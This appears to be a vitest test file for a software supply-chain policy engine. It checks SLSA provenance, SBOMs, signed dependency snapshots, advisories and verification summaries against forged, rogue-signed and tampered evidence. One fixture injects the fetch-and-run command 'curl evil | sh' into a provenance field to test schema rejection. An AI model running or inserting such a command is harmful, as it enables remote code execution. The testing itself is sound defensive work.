/**
 * The policy engine against real evidence (see world.ts): provenance and SBOM from the runner's own builders signed
 * as the runner, a mirror snapshot from mirror-sync's manifest builder signed as the sync job, all through a real
 * trust plane and verified with BundleVerifier. The fixture policy passes the good build at SLSA Build L3; then the
 * negative matrix of issue 8 §3, each refused with exactly the failing rule named and its seen/expected values.
 */
import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse as parseYaml } from 'yaml';
import { generateKeyPairSync } from 'node:crypto';
import { AirlockSigner, KeySigner } from '@airlock/sign';
import { BundleVerifier } from '@airlock/verify';
import {
  buildVsa,
  checkVsa,
  evaluatePolicy,
  indexAdvisories,
  loadOsvDirectory,
  loadPolicyFile,
  parsePolicy,
  TransferManifestSnapshotSource,
  type AdvisoryIndex,
  type AttestationEvidence,
  type Evidence,
  type LoadedPolicy,
  type PolicyDocument,
  type SnapshotSource,
  type Verdict,
} from '@airlock/policy';
import {
  ARTIFACT_NAME,
  ARTIFACT_SHA256,
  BUILDER_DEPENDENCIES,
  COMMIT,
  OTHER_COMMIT,
  REPO,
  TOOLCHAIN,
  attest,
  npmPackage,
  provenanceInput,
  provenanceOf,
  sbomOf,
  sha256,
  signSnapshot,
  snapshotSource,
  startWorld,
  type BuildOptions,
  type World,
} from './helpers/policy-world.js';

const POLICY_FILE = fileURLToPath(new URL('../fixtures/policy/release.policy.yaml', import.meta.url));

let w: World;
let policy: LoadedPolicy;
let advisories: AdvisoryIndex;
let source: SnapshotSource;
let good: { provenance: AttestationEvidence; sbom: AttestationEvidence };

/** Signs the provenance and SBOM of a build as the runner (or `as`). */
async function build(o: BuildOptions = {}, as: 'runner' | 'rogue' = 'runner') {
  const input = provenanceInput(w, o);
  return {
    input,
    provenance: await attest(w, w.signers[as], provenanceOf(input), `${ARTIFACT_NAME}.provenance.sigstore.json`),
    sbom: await attest(w, w.signers[as], sbomOf(input), `${ARTIFACT_NAME}.sbom.sigstore.json`),
  };
}

function evidence(attestations: AttestationEvidence[], extra: Partial<Evidence> = {}): Evidence {
  return {
    artifact: { name: ARTIFACT_NAME, digest: { sha256: ARTIFACT_SHA256 } },
    attestations,
    snapshots: source,
    advisories,
    ...extra,
  };
}

/** The fixture policy with a change, loaded through the same validator. */
function variant(change: (doc: PolicyDocument) => void): LoadedPolicy {
  const doc = parseYaml(readFileSync(POLICY_FILE, 'utf8')) as PolicyDocument;
  change(doc);
  return parsePolicy(JSON.stringify(doc), 'variant.policy.json');
}

const now = (): Date => new Date();

/** FAIL, and the failing rules are exactly `rules`. */
function expectRefused(v: Verdict, rules: string[]): void {
  expect(v.result).toBe('FAIL');
  expect(v.rules.filter((r) => !r.passed).map((r) => r.rule)).toEqual(rules);
  expect(v.verifiedLevels).toEqual(['FAILED']);
}

const ruleOf = (v: Verdict, name: string) => v.rules.find((r) => r.rule === name)!;

beforeAll(async () => {
  w = await startWorld();
  policy = loadPolicyFile(POLICY_FILE);
  advisories = indexAdvisories(loadOsvDirectory(policy.document.advisories!.osvDirectory));
  source = snapshotSource(w, w.snapshot);
  good = await build();
});

afterAll(async () => {
  await w?.close();
});

describe('passing policies', () => {
  it('the release policy passes the good build, every rule with seen and expected, at SLSA Build L3', async () => {
    const v = await evaluatePolicy(policy, evidence([good.provenance, good.sbom]), { now: now() });
    expect(v.rules.filter((r) => !r.passed)).toEqual([]);
    expect(v.result).toBe('PASS');
    expect(v.rules.map((r) => r.rule)).toEqual([
      'attestations.subject',
      'provenance.signed',
      'provenance.buildType',
      'provenance.buildDefinition',
      'provenance.builderId',
      'provenance.source.uri',
      'provenance.source.ref',
      'provenance.source.commit',
      'provenance.reproducible',
      'provenance.maxAge',
      'provenance.externalParameters',
      'dependencies.snapshot',
      'sbom.signed',
      'sbom.coverage',
      'advisories.osv',
    ]);
    for (const r of v.rules) {
      expect(r.seen).not.toBeUndefined();
      expect(r.expected).not.toBeUndefined();
      expect(r.message).not.toBe('');
    }
    expect(ruleOf(v, 'provenance.source.uri').seen).toBe(REPO);
    expect(ruleOf(v, 'provenance.source.ref').seen).toBe('refs/tags/v1.4.2');
    expect(ruleOf(v, 'dependencies.snapshot').seen).toEqual({
      dependencies: w.packages.length,
      snapshots: [w.snapshot.manifest.snapshot.id],
    });
    expect(v.verifiedLevels).toEqual(['SLSA_BUILD_LEVEL_3']);
    expect(v.facts).toMatchObject({
      builderId: w.ids.runner,
      commit: COMMIT,
      ref: 'refs/tags/v1.4.2',
      mirrorSnapshot: w.snapshot.manifest.snapshot.id,
      reproducibility: 'reproduced',
    });
    expect(v.policy.digest.sha256).toBe(sha256(readFileSync(POLICY_FILE)));
    expect(v.inputAttestations).toEqual([
      { uri: good.provenance.uri, digest: good.provenance.bundleDigest },
      { uri: good.sbom.uri, digest: good.sbom.bundleDigest },
    ]);
  });

  it('is deterministic: the same evidence and now give the same verdict', async () => {
    const at = now();
    const a = await evaluatePolicy(policy, evidence([good.provenance, good.sbom]), { now: at });
    const b = await evaluatePolicy(policy, evidence([good.provenance, good.sbom]), { now: at });
    expect(JSON.stringify(a)).toBe(JSON.stringify(b));
  });

  it('a policy that only requires runner-signed provenance passes at L2 and says why not L3', async () => {
    const p = parsePolicy(
      `apiVersion: airlock.dev/policy/v1
authorities:
  runner: { keyless: { subject: '${w.ids.runner}', issuer: '${w.issuer}' } }
provenance:
  authorities: [runner]
`,
    );
    const v = await evaluatePolicy(p, evidence([good.provenance]), { now: now() });
    expect(v.result).toBe('PASS');
    expect(v.verifiedLevels).toEqual(['SLSA_BUILD_LEVEL_2']);
    expect(v.levelReason).toMatch(/does not pin builder\.id/);
  });

  it('a tag glob, a semver tag range and a branch pattern each accept their ref', async () => {
    for (const refs of [{ tags: ['v1.*'] }, { semverTags: '^1.4.0' }, { branches: ['main'], tags: ['v*'] }]) {
      const v = await evaluatePolicy(
        variant((d) => (d.provenance!.source!.refs = refs)),
        evidence([good.provenance, good.sbom]),
        { now: now() },
      );
      expect(ruleOf(v, 'provenance.source.ref')).toMatchObject({ passed: true, seen: 'refs/tags/v1.4.2' });
    }
  });

  it('a toolchain allow-list naming every tool passes; one tool short fails naming it', async () => {
    const all = [...TOOLCHAIN, ...BUILDER_DEPENDENCIES].map((t) => t.sha256);
    const ok = await evaluatePolicy(
      variant((d) => (d.provenance!.toolchainDigests = all)),
      evidence([good.provenance, good.sbom]),
      { now: now() },
    );
    expect(ok.result).toBe('PASS');
    const short = await evaluatePolicy(
      variant((d) => (d.provenance!.toolchainDigests = all.slice(1))),
      evidence([good.provenance, good.sbom]),
      { now: now() },
    );
    expectRefused(short, ['provenance.toolchain']);
    expect(ruleOf(short, 'provenance.toolchain').seen).toEqual({
      notAllowed: [{ name: '/bin/sh', sha256: TOOLCHAIN[0]!.sha256 }],
    });
  });
});

describe('the negative matrix (issue 8 §3), each refused with the failing rule named', () => {
  it('wrong builder id', async () => {
    const v = await evaluatePolicy(
      variant((d) => (d.provenance!.builderIds = ['spiffe://airlock.internal/runner/release-only'])),
      evidence([good.provenance, good.sbom]),
      { now: now() },
    );
    expectRefused(v, ['provenance.builderId']);
    expect(ruleOf(v, 'provenance.builderId')).toMatchObject({
      seen: w.ids.runner,
      expected: { oneOf: ['spiffe://airlock.internal/runner/release-only'] },
    });
  });

  it('wrong source repository', async () => {
    const v = await evaluatePolicy(
      variant((d) => (d.provenance!.source!.uris = ['https://git.corp.example/other/*.git'])),
      evidence([good.provenance, good.sbom]),
      { now: now() },
    );
    expectRefused(v, ['provenance.source.uri']);
    expect(ruleOf(v, 'provenance.source.uri')).toMatchObject({
      seen: REPO,
      expected: { oneOf: ['https://git.corp.example/other/*.git'] },
    });
  });

  it('a tag policy with a branch build', async () => {
    const branch = await build({ ref: 'refs/heads/main' });
    const v = await evaluatePolicy(policy, evidence([branch.provenance, branch.sbom]), { now: now() });
    expectRefused(v, ['provenance.source.ref']);
    expect(ruleOf(v, 'provenance.source.ref')).toMatchObject({
      seen: 'refs/heads/main',
      expected: { semverTags: '>=1.0.0 <2.0.0' },
      message: "branch 'main' is not allowed",
    });
  });

  it('a tag outside the semver range', async () => {
    const v2 = await build({ ref: 'refs/tags/v2.0.0' });
    const v = await evaluatePolicy(policy, evidence([v2.provenance, v2.sbom]), { now: now() });
    expectRefused(v, ['provenance.source.ref']);
    expect(ruleOf(v, 'provenance.source.ref').seen).toBe('refs/tags/v2.0.0');
  });

  it('wrong commit', async () => {
    const v = await evaluatePolicy(
      variant((d) => (d.provenance!.source!.commit = OTHER_COMMIT)),
      evidence([good.provenance, good.sbom]),
      { now: now() },
    );
    expectRefused(v, ['provenance.source.commit']);
    expect(ruleOf(v, 'provenance.source.commit')).toMatchObject({ seen: COMMIT, expected: OTHER_COMMIT });
  });

  it('provenance older than the maximum age (age from the log integrated time)', async () => {
    const later = new Date(Date.now() + 31 * 86_400_000);
    const v = await evaluatePolicy(policy, evidence([good.provenance, good.sbom]), { now: later });
    expectRefused(v, ['provenance.maxAge']);
    const r = ruleOf(v, 'provenance.maxAge');
    expect(r.seen).toMatchObject({ from: 'transparency log' });
    expect((r.seen as { ageSeconds: number }).ageSeconds).toBeGreaterThan(30 * 86_400);
    expect(r.expected).toMatchObject({ maxAge: '30d' });
  });

  it('a dependency that is in no snapshot signed by the sync identity (a forged snapshot with a valid signer)', async () => {
    const evil = npmPackage('evil-pkg', '6.6.6');
    // A real, valid signature — by an identity the policy does not accept as the sync job.
    const forged = await signSnapshot(w.signers.rogue, [...w.packages, evil], 2, w.snapshot.manifest.snapshot.id);
    const b = await build({ packages: [...w.packages, evil] });
    const both = snapshotSource(w, w.snapshot, forged);
    const v = await evaluatePolicy(policy, evidence([b.provenance, b.sbom], { snapshots: both }), { now: now() });
    expectRefused(v, ['dependencies.snapshot']);
    expect(ruleOf(v, 'dependencies.snapshot').seen).toEqual({
      missing: [],
      wrongSigner: [
        {
          dependency: evil.purl,
          snapshots: [{ id: forged.manifest.snapshot.id, signedBy: `${w.ids.rogue} (issuer ${w.issuer})` }],
        },
      ],
    });
    // Without the forged snapshot the blob is simply nowhere.
    const v2 = await evaluatePolicy(policy, evidence([b.provenance, b.sbom]), { now: now() });
    expectRefused(v2, ['dependencies.snapshot']);
    expect(ruleOf(v2, 'dependencies.snapshot').seen).toEqual({ missing: [evil.purl], wrongSigner: [] });
  });

  it('a snapshot signed by the wrong identity', async () => {
    const rogueSnapshot = await signSnapshot(w.signers.rogue, w.packages, 1, null);
    const v = await evaluatePolicy(
      policy,
      evidence([good.provenance, good.sbom], { snapshots: snapshotSource(w, rogueSnapshot) }),
      { now: now() },
    );
    expectRefused(v, ['dependencies.snapshot']);
    const seen = ruleOf(v, 'dependencies.snapshot').seen as { wrongSigner: unknown[] };
    expect(seen.wrongSigner).toHaveLength(w.packages.length);
    expect(ruleOf(v, 'dependencies.snapshot').expected).toMatchObject({
      inSnapshotSignedBy: [{ authority: 'mirror-sync', subject: w.ids.sync }],
    });
  });

  it('missing SBOM', async () => {
    const v = await evaluatePolicy(policy, evidence([good.provenance]), { now: now() });
    expectRefused(v, ['sbom.signed', 'sbom.coverage']);
    expect(ruleOf(v, 'sbom.signed')).toMatchObject({ seen: 'none', message: 'no CycloneDX SBOM about the artifact' });
  });

  it('an SBOM signed by an identity the policy does not accept', async () => {
    const rogueSbom = await attest(w, w.signers.rogue, sbomOf(provenanceInput(w)), 'rogue.sbom.sigstore.json');
    const v = await evaluatePolicy(policy, evidence([good.provenance, rogueSbom]), { now: now() });
    expectRefused(v, ['sbom.signed', 'sbom.coverage']);
    expect(ruleOf(v, 'sbom.signed').seen).toEqual([
      { uri: 'rogue.sbom.sigstore.json', signedBy: `${w.ids.rogue} (issuer ${w.issuer})` },
    ]);
  });

  it('an SBOM missing a dependency', async () => {
    const dropped = w.packages[1]!;
    const partial = sbomOf(provenanceInput(w, { packages: w.packages.filter((p) => p !== dropped) }));
    const sbom = await attest(w, w.signers.runner, partial, 'partial.sbom.sigstore.json');
    const v = await evaluatePolicy(policy, evidence([good.provenance, sbom]), { now: now() });
    expectRefused(v, ['sbom.coverage']);
    expect(ruleOf(v, 'sbom.coverage').seen).toEqual({ notInSbom: [dropped.purl] });
  });

  it('an advisory-listed dependency (offline OSV), and the same with the advisory ignored by alias', async () => {
    const old = npmPackage('lodash', '4.17.20');
    const pkgs = [...w.packages.filter((p) => p.name !== 'lodash'), old];
    const snap = await signSnapshot(w.signers.sync, pkgs, 2, w.snapshot.manifest.snapshot.id);
    const b = await build({ packages: pkgs });
    const ev = evidence([b.provenance, b.sbom], { snapshots: snapshotSource(w, w.snapshot, snap) });
    const v = await evaluatePolicy(policy, ev, { now: now() });
    expectRefused(v, ['advisories.osv']);
    expect(ruleOf(v, 'advisories.osv').seen).toEqual({
      affected: [{ dependency: 'pkg:npm/lodash@4.17.20', advisories: ['GHSA-35jh-r3h4-6jhm'] }],
    });
    const ignoring = variant((d) => (d.advisories!.ignore = ['CVE-2021-23337']));
    expect((await evaluatePolicy(ignoring, ev, { now: now() })).result).toBe('PASS');
  });

  it('a non-reproducible build under a policy requiring reproducibility', async () => {
    const differs = await build({
      reproducibility: {
        status: 'differs',
        differences: [
          { name: ARTIFACT_NAME, reason: 'content-differs', sha256: ARTIFACT_SHA256, rebuildSha256: sha256('x') },
        ],
        variations: { buildPath: true, hostname: true, home: true, environmentNoise: true, time: 'faketime' },
      },
    });
    const v = await evaluatePolicy(policy, evidence([differs.provenance, differs.sbom]), { now: now() });
    expectRefused(v, ['provenance.reproducible']);
    expect(ruleOf(v, 'provenance.reproducible')).toMatchObject({ seen: 'differs', expected: 'reproduced' });

    const notRebuilt = await build({ reproducibility: { status: 'not-requested' } });
    const v2 = await evaluatePolicy(policy, evidence([notRebuilt.provenance, notRebuilt.sbom]), { now: now() });
    expectRefused(v2, ['provenance.reproducible']);
    expect(ruleOf(v2, 'provenance.reproducible').seen).toBe('not-requested');
  });

  it('provenance signed by another identity: refused, and every provenance rule reported as not checked', async () => {
    const rogue = await build({}, 'rogue');
    const v = await evaluatePolicy(policy, evidence([rogue.provenance, good.sbom]), { now: now() });
    expect(v.result).toBe('FAIL');
    expect(ruleOf(v, 'provenance.signed')).toMatchObject({
      passed: false,
      seen: [{ uri: rogue.provenance.uri, signedBy: `${w.ids.rogue} (issuer ${w.issuer})` }],
    });
    expect(ruleOf(v, 'provenance.builderId')).toMatchObject({
      passed: false,
      message: 'not checked: no accepted provenance',
    });
    expect(ruleOf(v, 'dependencies.snapshot').passed).toBe(false);
  });

  it('tampered provenance never becomes evidence; an attestation about another artifact is refused', async () => {
    const signed = await w.signers.runner.attest(provenanceOf(provenanceInput(w)));
    const env = (signed as unknown as { dsseEnvelope: { payload: string } }).dsseEnvelope;
    const stmt = JSON.parse(Buffer.from(env.payload, 'base64').toString('utf8')) as {
      predicate: { runDetails: { builder: { id: string } } };
    };
    stmt.predicate.runDetails.builder.id = 'https://builder.example/forged';
    env.payload = Buffer.from(JSON.stringify(stmt)).toString('base64');
    expect(() =>
      w.verifier.verify(signed, { artifactDigest: { sha256: ARTIFACT_SHA256 }, allowAnyIdentity: true }),
    ).toThrow(expect.objectContaining({ code: 'VERIFY_SIGNATURE' }));

    const elsewhere: Evidence = {
      ...evidence([good.provenance, good.sbom]),
      artifact: { name: 'other.tgz', digest: { sha256: sha256('another artifact') } },
    };
    const v = await evaluatePolicy(policy, elsewhere, { now: now() });
    expect(ruleOf(v, 'attestations.subject')).toMatchObject({
      passed: false,
      seen: { notAboutArtifact: [good.provenance.uri, good.sbom.uri] },
    });
    expect(ruleOf(v, 'provenance.signed')).toMatchObject({ passed: false, seen: 'none' });
  });

  it('external parameters outside the allow-list (e.g. only these builder types)', async () => {
    const v = await evaluatePolicy(
      variant(
        (d) => (d.provenance!.externalParameters = { 'builder.type': ['bazel'], 'builder.targets': ['//app:*'] }),
      ),
      evidence([good.provenance, good.sbom]),
      { now: now() },
    );
    expectRefused(v, ['provenance.externalParameters']);
    expect(ruleOf(v, 'provenance.externalParameters').seen).toEqual({
      'builder.type': 'command',
      'builder.targets': '(absent)',
    });
  });

  it('a provenance with an unknown externalParameters field fails its build-type schema', async () => {
    const stmt = provenanceOf(provenanceInput(w)) as {
      predicate: { buildDefinition: { externalParameters: Record<string, unknown> } };
    };
    stmt.predicate.buildDefinition.externalParameters.injected = 'curl evil | sh';
    const p = await attest(w, w.signers.runner, stmt as never, 'odd.provenance.sigstore.json');
    const v = await evaluatePolicy(policy, evidence([p, good.sbom]), { now: now() });
    expectRefused(v, ['provenance.buildDefinition']);
    expect(ruleOf(v, 'provenance.buildDefinition').seen).toEqual([
      'buildDefinition.externalParameters.injected: unknown field',
    ]);
  });

  it('two accepted provenance statements that disagree are refused rather than one picked', async () => {
    const other = await build({ commit: OTHER_COMMIT });
    const v = await evaluatePolicy(policy, evidence([good.provenance, other.provenance, good.sbom]), { now: now() });
    expect(ruleOf(v, 'provenance.signed')).toMatchObject({ passed: false });
    expect(ruleOf(v, 'provenance.signed').message).toMatch(/disagree/);
  });

  it('a further required attestation type: missing, then present and signed by the named authority', async () => {
    const TEST_TYPE = 'https://airlock.dev/attestation/test-report/v1';
    const requiring = variant((d) => (d.attestations = [{ predicateType: TEST_TYPE, authorities: ['runner'] }]));
    const missing = await evaluatePolicy(requiring, evidence([good.provenance, good.sbom]), { now: now() });
    expectRefused(missing, [`attestations.required[${TEST_TYPE}]`]);
    expect(ruleOf(missing, `attestations.required[${TEST_TYPE}]`).seen).toBe('none');
    const report = await attest(
      w,
      w.signers.runner,
      {
        _type: 'https://in-toto.io/Statement/v1',
        subject: [{ name: ARTIFACT_NAME, digest: { sha256: ARTIFACT_SHA256 } }],
        predicateType: TEST_TYPE,
        predicate: { passed: 412, failed: 0 },
      },
      'tests.sigstore.json',
    );
    const present = await evaluatePolicy(requiring, evidence([good.provenance, good.sbom, report]), { now: now() });
    expect(present.result).toBe('PASS');
  });

  it('dependency rules without a snapshot source, or advisories without the OSV index, fail closed', async () => {
    const v = await evaluatePolicy(
      policy,
      { artifact: { digest: { sha256: ARTIFACT_SHA256 } }, attestations: [good.provenance, good.sbom] },
      { now: now() },
    );
    expectRefused(v, ['dependencies.snapshot', 'advisories.osv']);
    expect(ruleOf(v, 'dependencies.snapshot').seen).toBe('no snapshot source given');
  });
});

describe('VSA (SLSA verification summary v1)', () => {
  const verifier = { id: 'https://airlock.dev/verifiers/release', version: { '@airlock/policy': '0.1.0' } };

  it('a passing verdict becomes a VSA about the artifact digest, signed as the verifier, verifiable by identity', async () => {
    const v = await evaluatePolicy(policy, evidence([good.provenance, good.sbom]), { now: now() });
    const vsa = buildVsa({ verdict: v, verifier, resourceUri: `file:${ARTIFACT_NAME}` });
    expect(vsa.subject).toEqual([{ name: ARTIFACT_NAME, digest: { sha256: ARTIFACT_SHA256 } }]);
    expect(vsa.predicateType).toBe('https://slsa.dev/verification_summary/v1');
    expect(vsa.predicate).toEqual({
      verifier,
      timeVerified: v.evaluatedAt,
      resourceUri: `file:${ARTIFACT_NAME}`,
      policy: { uri: policy.uri, digest: { sha256: sha256(readFileSync(POLICY_FILE)) } },
      inputAttestations: [
        { uri: good.provenance.uri, digest: good.provenance.bundleDigest },
        { uri: good.sbom.uri, digest: good.sbom.bundleDigest },
      ],
      verificationResult: 'PASSED',
      verifiedLevels: ['SLSA_BUILD_LEVEL_3'],
      slsaVersion: '1.0',
    });
    // Signed through the trust plane as the verifier's identity; one signature check (stock @sigstore/verify).
    const signer = new AirlockSigner({
      fulcioUrl: w.plane.endpoints.caUrl,
      rekorUrl: w.plane.endpoints.tlogUrl,
      identity: () => w.plane.issueToken(w.ids.verifier),
    });
    const bundle = await signer.attest(vsa);
    const checked = w.verifier.verify(bundle, {
      artifactDigest: { sha256: ARTIFACT_SHA256 },
      policy: { subject: w.ids.verifier, issuer: w.issuer },
      expectedPredicateType: 'https://slsa.dev/verification_summary/v1',
    });
    const summary = checkVsa(checked.statement, {
      subjectDigest: { sha256: ARTIFACT_SHA256 },
      policyDigest: policy.digest.sha256,
      verifierId: verifier.id,
      minimumLevel: 'SLSA_BUILD_LEVEL_3',
    });
    expect(summary.verificationResult).toBe('PASSED');
  });

  it('a VSA replayed for another digest, under another policy, from another verifier, or FAILED is refused', async () => {
    const v = await evaluatePolicy(policy, evidence([good.provenance, good.sbom]), { now: now() });
    const vsa = buildVsa({ verdict: v, verifier, resourceUri: ARTIFACT_NAME });
    const expectation = { subjectDigest: { sha256: ARTIFACT_SHA256 }, policyDigest: policy.digest.sha256 };
    const mismatch = expect.objectContaining({ code: 'POLICY_VSA_MISMATCH' });
    expect(() => checkVsa(vsa, { ...expectation, subjectDigest: { sha256: sha256('another artifact') } })).toThrow(
      mismatch,
    );
    expect(() => checkVsa(vsa, { ...expectation, subjectDigest: { sha256: sha256('another artifact') } })).toThrow(
      /not about sha256:/,
    );
    const newerPolicy = variant((d) => (d.provenance!.maxAge = '7d'));
    expect(() => checkVsa(vsa, { ...expectation, policyDigest: newerPolicy.digest.sha256 })).toThrow(
      /issued under policy/,
    );
    expect(() => checkVsa(vsa, { ...expectation, verifierId: 'https://other.example/verifier' })).toThrow(mismatch);

    const failed = await evaluatePolicy(policy, evidence([good.provenance]), { now: now() });
    const failedVsa = buildVsa({ verdict: failed, verifier, resourceUri: ARTIFACT_NAME });
    expect(failedVsa.predicate!.verificationResult).toBe('FAILED');
    expect(failedVsa.predicate!.verifiedLevels).toEqual(['FAILED']);
    expect(() => checkVsa(failedVsa, expectation)).toThrow(/verificationResult FAILED/);

    const l2 = await evaluatePolicy(
      variant((d) => delete d.provenance!.builderIds),
      evidence([good.provenance, good.sbom]),
      { now: now() },
    );
    const l2Vsa = buildVsa({ verdict: l2, verifier, resourceUri: ARTIFACT_NAME });
    expect(l2Vsa.predicate!.verifiedLevels).toEqual(['SLSA_BUILD_LEVEL_2']);
    expect(() =>
      checkVsa(l2Vsa, { ...expectation, policyDigest: l2.policy.digest.sha256, minimumLevel: 'SLSA_BUILD_LEVEL_3' }),
    ).toThrow(/SLSA_BUILD_LEVEL_3 is required/);
    expect(() => checkVsa({ ...vsa, predicateType: 'https://slsa.dev/provenance/v1' }, expectation)).toThrow(
      expect.objectContaining({ code: 'POLICY_VSA_INVALID' }),
    );
  });
});

describe('snapshot files and public-key authorities', () => {
  it('a transfer manifest whose bytes differ from what was signed, or whose id is not its content hash, is refused', async () => {
    const tampered = Buffer.from(w.snapshot.manifestBytes.toString('utf8').replace('left-pad', 'left-pbd'));
    expect(() => new TransferManifestSnapshotSource().add(tampered, w.snapshot.bundle, w.verifier, 'm.json')).toThrow(
      expect.objectContaining({
        code: 'POLICY_SNAPSHOT_INVALID',
        message: expect.stringMatching(/^m\.json: signature/),
      }),
    );
    // Signed by the sync identity, but an entry was added under the old snapshot id.
    const extra = npmPackage('smuggled', '1.0.0');
    const m = JSON.parse(w.snapshot.manifestBytes.toString('utf8')) as { entries: unknown[] };
    m.entries.push(extra.entry);
    const bytes = Buffer.from(JSON.stringify(m));
    const bundle = await w.signers.sync.attest({
      _type: 'https://in-toto.io/Statement/v1',
      subject: [{ name: 'manifest.json', digest: { sha256: sha256(bytes) } }],
      predicateType: 'https://airlock.dev/attestation/transfer-manifest/v1',
      predicate: {},
    });
    expect(() => new TransferManifestSnapshotSource().add(bytes, bundle, w.verifier)).toThrow(
      /snapshot\.id sha256:[0-9a-f]{64} is not the hash of its content/,
    );
  });

  it('provenance signed with a long-lived key matches a publicKey authority, and claims at most L2', async () => {
    const { privateKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });
    const keySigner = new KeySigner(privateKey.export({ type: 'pkcs8', format: 'pem' }), 'release-key');
    const signer = new AirlockSigner({
      fulcioUrl: w.plane.endpoints.caUrl,
      rekorUrl: w.plane.endpoints.tlogUrl,
      keySigner,
    });
    const bundle = await signer.attest(provenanceOf(provenanceInput(w)));
    const keyed = new BundleVerifier(w.plane.trustedRoot, { publicKeys: { 'release-key': keySigner.publicKeyPem } });
    const prov: AttestationEvidence = {
      uri: 'keyed.provenance.sigstore.json',
      bundleDigest: { sha256: sha256(JSON.stringify(bundle)) },
      verification: keyed.verify(bundle, { artifactDigest: { sha256: ARTIFACT_SHA256 } }),
    };
    const byKey = variant((d) => {
      d.authorities['release-key'] = { publicKey: { hint: 'release-key', path: 'release-key.pem' } };
      d.provenance!.authorities = ['release-key'];
    });
    const v = await evaluatePolicy(byKey, evidence([prov, good.sbom]), { now: now() });
    expect(v.rules.filter((r) => !r.passed)).toEqual([]);
    expect(ruleOf(v, 'provenance.signed').seen).toEqual([{ uri: prov.uri, signedBy: "public key 'release-key'" }]);
    expect(v.verifiedLevels).toEqual(['SLSA_BUILD_LEVEL_2']);
    expect(v.levelReason).toMatch(/long-lived key/);
    // The runner's keyless provenance does not satisfy a key authority, nor the key a keyless one.
    const wrong = await evaluatePolicy(byKey, evidence([good.provenance, good.sbom]), { now: now() });
    expect(ruleOf(wrong, 'provenance.signed').passed).toBe(false);
    const keyless = await evaluatePolicy(policy, evidence([prov, good.sbom]), { now: now() });
    expect(ruleOf(keyless, 'provenance.signed').passed).toBe(false);
  });
});
